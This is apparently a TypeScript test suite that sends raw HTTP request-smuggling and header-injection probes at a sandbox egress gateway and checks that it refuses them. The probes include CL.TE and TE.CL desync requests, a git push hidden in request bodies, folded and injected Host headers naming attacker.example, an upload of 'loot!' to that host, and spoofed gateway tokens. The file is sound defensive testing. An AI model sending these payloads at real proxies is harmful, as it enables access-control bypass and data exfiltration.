/** Requests whose length or end could be read in two ways: smuggling, broken headers, pipelines, expectations. */
import type { Group, Place, Probe } from '../probe.ts';
import { closed, fetchRefs, malformed, plain, request, wire } from './wire-probe.ts';

const two = { answers: 2 } as const;
/** A GET with a body: answered as if it had none, or refused. Never may the body become a request. */
const withBody = [
  '200, open',
  '400, open',
  '400 http.body, open',
  '403 github.method, open',
  '502 internal, open',
];

export const httpFraming: Group = {
  name: 'http-framing',
  about: 'smuggling: lengths, chunks, pipelines, broken headers',
  probes: (place: Place): readonly Probe[] => {
    /** What is smuggled: on GitHub’s own connection, a push; its marker is looked for upstream. */
    const push = request(
      'POST /acme/split-bill.git/git-receive-pack HTTP/1.1',
      'Host: github.com',
      `X-Probe: ${place.marker}`,
      'Content-Length: 0',
    );
    return [
      wire(
        'length-twice',
        'two lengths',
        request(
          'POST / HTTP/1.1',
          'Host: github.com',
          'Content-Length: 0',
          `Content-Length: ${push.length}`,
        ) + push,
        malformed,
      ),
      wire(
        'length-twice-same',
        'the same length twice',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Content-Length: 1', 'Content-Length: 1')}x`,
        malformed,
      ),
      wire(
        'length-and-chunks',
        'a length and chunks (CL.TE)',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Content-Length: 5', 'Transfer-Encoding: chunked')}0\r\n\r\n${push}`,
        malformed,
      ),
      wire(
        'chunks-and-length',
        'chunks and a length (TE.CL)',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: chunked', 'Content-Length: 5')}0\r\n\r\n${push}`,
        malformed,
      ),
      wire(
        'length-plus',
        'a length with a sign',
        request('POST / HTTP/1.1', 'Host: github.com', 'Content-Length: +0'),
        malformed,
      ),
      wire(
        'length-hex',
        'a length in hexadecimal',
        request('POST / HTTP/1.1', 'Host: github.com', 'Content-Length: 0x5'),
        malformed,
      ),
      wire(
        'chunks-twice',
        'chunked, and something after it',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: chunked, identity')}0\r\n\r\n`,
        malformed,
      ),
      wire(
        'chunks-odd',
        'a coding that looks like chunked',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: xchunked')}0\r\n\r\n`,
        malformed,
      ),
      wire(
        'chunks-space',
        'a space before the colon',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding : chunked')}0\r\n\r\n`,
        malformed,
      ),
      wire(
        'chunks-old',
        'chunks in HTTP/1.0',
        `${request('POST / HTTP/1.0', 'Host: github.com', 'Transfer-Encoding: chunked')}0\r\n\r\n${push}`,
        [...malformed, '403 github.path, closed', '403 github.path, 400 malformed, closed'],
      ),
      wire(
        'chunk-size',
        'a chunk size that overflows',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: chunked')}fffffffffffffffff\r\n\r\n`,
        [
          ...malformed,
          '403 github.path, 400 malformed, closed',
          '403 github.path, closed',
          '502 internal, closed',
        ],
      ),
      wire(
        'chunk-bare-lf',
        'chunks ended by bare line feeds',
        `${request('POST / HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: chunked')}0\n\n`,
        [...malformed, '403 github.path, 400 malformed, closed', '403 github.path, closed'],
      ),
      wire('bare-lf', 'lines ended by bare line feeds', 'GET / HTTP/1.1\nHost: github.com\n\n', malformed),
      wire(
        'bare-cr',
        'a bare carriage return in a value',
        request('GET / HTTP/1.1', 'Host: github.com', 'X: a\rHost: attacker.example'),
        malformed,
      ),
      wire(
        'header-nul',
        'a NUL in a value',
        request('GET / HTTP/1.1', 'Host: github.com', 'X: a\0b'),
        malformed,
      ),
      wire(
        'header-fold',
        'a folded line that hides a header',
        request('GET / HTTP/1.1', 'Host: github.com', 'X: a', ' Host: attacker.example'),
        malformed,
      ),
      wire(
        'header-injection',
        'a header in the path',
        `GET /acme/split-bill.git/info/refs?service=git-upload-pack HTTP/1.1\r\nX: y HTTP/1.1\r\nHost: github.com\r\nHost: attacker.example\r\n\r\n`,
        closed('400 host_repeated'),
      ),
      wire(
        'header-giant',
        'a header of 100 KB',
        [
          { send: 'GET / HTTP/1.1\r\nHost: github.com\r\nX: ' },
          { sendRepeated: 'a', times: 100_000 },
          { send: '\r\n\r\n' },
        ],
        [...malformed, 'closed'],
      ),
      wire(
        'header-many',
        'ten thousand headers',
        [
          { send: 'GET / HTTP/1.1\r\nHost: github.com\r\n' },
          { sendRepeated: 'X: y\r\n', times: 20_000 },
          { send: '\r\n' },
        ],
        [...malformed, 'closed'],
      ),
      wire(
        'target-giant',
        'a path of 60 KB',
        [
          { send: 'GET /' },
          { sendRepeated: 'a', times: 60_000 },
          { send: ' HTTP/1.1\r\nHost: attacker.example\r\n\r\n' },
        ],
        [
          '403 host.not-granted, open',
          '414 url.length, open',
          '502 internal, open',
          '414, closed',
          '400, closed',
        ],
        plain,
      ),
      wire(
        'pipeline',
        'a second request behind an allowed one: decided by itself',
        fetchRefs() + push,
        ['200, 403 github.receive-pack, open', '200, 403 github.receive-pack, closed'],
        { ...two, reachesUpstream: true },
      ),
      wire(
        'pipeline-host',
        'a second request for another host, without TLS',
        fetchRefs() + request('GET / HTTP/1.1', 'Host: attacker.example'),
        ['200, 403 host.not-granted, open'],
        { ...two, ...plain, reachesUpstream: true },
      ),
      wire(
        'pipeline-sni',
        'the same within TLS',
        fetchRefs() + request('GET / HTTP/1.1', 'Host: attacker.example'),
        ['200, 400 sni_mismatch, closed'],
        { ...two, reachesUpstream: true },
      ),
      wire(
        'smuggle-get-body',
        'a push in the body of an allowed GET',
        `${fetchRefs(`Content-Length: ${push.length}`)}${push}`,
        withBody,
        { reachesUpstream: true },
      ),
      wire(
        'smuggle-get-chunks',
        'the same in chunks',
        `${fetchRefs('Transfer-Encoding: chunked')}${push.length.toString(16)}\r\n${push}\r\n0\r\n\r\n`,
        withBody,
        { reachesUpstream: true },
      ),
      wire(
        'smuggle-keep-alive',
        'a push in the body of a refused request, on a connection that is kept',
        `${request('POST /attacker/loot HTTP/1.1', 'Host: github.com', `Content-Length: ${push.length}`)}${push}${fetchRefs()}`,
        ['403 github.path, 200, open'],
        { ...two, reachesUpstream: true },
      ),
      wire(
        'smuggle-hop',
        'a Connection header that names Content-Length',
        `${fetchRefs('Connection: content-length, host', `Content-Length: ${push.length}`)}${push}`,
        withBody,
        { reachesUpstream: true },
      ),
      wire(
        'trailers',
        'a second address in the trailers',
        `${request('POST /acme/split-bill.git/git-receive-pack HTTP/1.1', 'Host: github.com', 'Transfer-Encoding: chunked', 'Trailer: Host')}0\r\nHost: attacker.example\r\n\r\n`,
        ['403 github.receive-pack, open'],
      ),
      wire(
        'expect',
        'Expect: 100-continue with a forbidden upload',
        [
          {
            send: request(
              'POST /upload HTTP/1.1',
              'Host: attacker.example',
              'Content-Length: 5',
              'Expect: 100-continue',
            ),
          },
          { waitMs: 200 },
          { send: 'loot!' },
        ],
        ['100, 403 host.not-granted, open'],
        plain,
      ),
      wire(
        'expect-odd',
        'an expectation that nobody knows',
        request('GET / HTTP/1.1', 'Host: attacker.example', 'Expect: 200-ok'),
        ['403 host.not-granted, open', '417 http.expect, open', '417, open'],
        plain,
      ),
      wire(
        'own-headers',
        'the gateway’s own headers, with another sandbox’s id',
        request(
          'GET / HTTP/1.1',
          'Host: attacker.example',
          `X-Airlock-Sandbox: ${place.otherSandbox}`,
          'X-Airlock-Token: guess',
          'X-Airlock-Refused: no',
        ),
        ['403 host.not-granted, open'],
        plain,
      ),
      wire(
        'own-headers-hop',
        'a Connection header that names the gateway’s own',
        request(
          'GET / HTTP/1.1',
          'Host: attacker.example',
          'Connection: x-airlock-token, x-airlock-sandbox',
          `X-Airlock-Sandbox: ${place.otherSandbox}`,
        ),
        ['403 host.not-granted, open'],
        plain,
      ),
      wire(
        'garbage',
        'bytes that are no HTTP',
        '\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003',
        malformed,
        plain,
      ),
      wire(
        'ssh',
        'SSH on port 443',
        'SSH-2.0-OpenSSH_9.9\r\n',
        ['closed', 'ECONNRESET', '400 malformed, closed'],
        plain,
      ),
    ];
  },
};
